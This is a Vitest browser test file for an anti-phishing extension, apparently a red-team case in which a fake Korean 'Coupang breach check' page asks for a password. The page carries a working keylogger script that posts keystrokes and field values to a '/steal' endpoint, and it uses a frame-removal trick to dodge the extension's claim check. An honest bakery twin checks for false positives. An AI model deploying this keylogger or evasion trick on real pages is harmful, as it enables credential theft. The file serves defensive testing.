import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session } from '../harness';
import { expectNoWarningFor, notWarned, startReady } from '../page-helpers';
import { attackSettled, js, onPage, stolen, userTypes } from './kit';

/**
 * Red team 43 against the tab's claim check (entrypoints/content/guard.ts `inTab`, red team 35): a frame's box with
 * no claim of its own is judged with the claim the tab's other frames make, the answer kept by the box's frame.
 * - rm: the claim in a sibling frame the user reads; at the press on the box (in a frame of another origin) the
 *   top page takes the claim's frame out and puts it back at once: the check at the focus finds no claim in the tab,
 *   and the frame loads again while the user types.
 * Honest twin (hrm): the same page with a bakery's notice in the sibling frame: clean, and the typing taken.
 */
const LOGGER = `<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
</script>`;
const doc = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title>${LOGGER}</head><body style="margin:0">${body}</body></html>`;
const CLAIM =
  '<h1>회원 확인</h1><p>쿠팡 회원정보 유출 확인 전담 창구입니다. 본인 확인을 위해 비밀번호를 입력해 주세요.</p>';
const BAKERY = '<h1>회원 확인</h1><p>달빛 베이커리 회원 전용 주문 창구입니다. 비밀번호를 입력해 주세요.</p>';
const BOX = '<input id="pw" type="password" name="pw" style="width:100%;height:56px;box-sizing:border-box">';
const TELL = `<script>document.addEventListener('mousedown', function () { parent.postMessage('touched', '*'); }, true);</script>`;
/** the box's frame says what its box holds, whenever that changes (typing given back after a hold included) */
const VALUE = `<script>var last = ''; setInterval(function () { var v = document.getElementById('pw').value;
if (v !== last) { last = v; steal('value', v); } }, 200);</script>`;
const ready = `<script>window.addEventListener('load', function () { steal('ready', 'yes'); });</script>`;
/** at the press: the claim's frame out, and back at once */
const REMOVE = `<script>window.addEventListener('message', function (e) {
  if (e.data !== 'touched') return;
  var f = document.getElementById('claim'), n = f.cloneNode(true); f.remove(); document.body.prepend(n);
});</script>`;

const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));

forEachBrowser('hostile: red team 43, the tab claim check', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });
  const serve = (name: string, notice: string) => {
    const host = `rt43-${name}.example.test`;
    const boxHost = `rt43-${name}-box.example.test`;
    const claimHost = `rt43-${name}-notice.example.test`;
    ctx.server.page(claimHost, '/c', doc('안내', notice));
    ctx.server.page(boxHost, '/f', doc('확인', BOX + TELL + VALUE));
    ctx.server.page(
      host,
      '/p',
      doc(
        '회원 확인',
        `<iframe id="claim" src=${js(ctx.server.url(claimHost, '/c'))} style="display:block;width:600px;height:160px;border:0"></iframe>` +
          `<iframe id="box" src=${js(ctx.server.url(boxHost, '/f'))} style="display:block;width:420px;height:60px;border:0"></iframe>${REMOVE}${ready}`,
      ),
    );
    return { host, boxHost };
  };

  test('rm: no key reaches the kit', async () => {
    const { host, boxHost } = serve('rm', CLAIM);
    const tab = await s.newTab(ctx.server.url(host, '/p'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await pause(1_000);
    expect(await notWarned(s, tab)).toBe(true);
    await userTypes(tab, '#box', 'hunter2');
    await pause(3_000);
    const got = stolen(ctx.server, boxHost, 'key').length;
    const warned = !(await onPage(s, tab));
    await tab.close();
    expect({ got, warned }).toEqual({ got: 0, warned: true });
  });

  test('hrm: honest, stays clean and takes the typing', async () => {
    const { host, boxHost } = serve('hrm', BAKERY);
    const tab = await s.newTab(ctx.server.url(host, '/p'));
    await tab.bringToFront();
    await expectNoWarningFor(tab, 3_000);
    await userTypes(tab, '#box', 'hunter2');
    await expectNoWarningFor(tab, 2_000);
    // (the box holds what was typed: the typing was taken)
    expect(stolen(ctx.server, boxHost, 'value').at(-1)?.path).toBe('/steal?value=hunter2');
    await tab.close();
  });
});
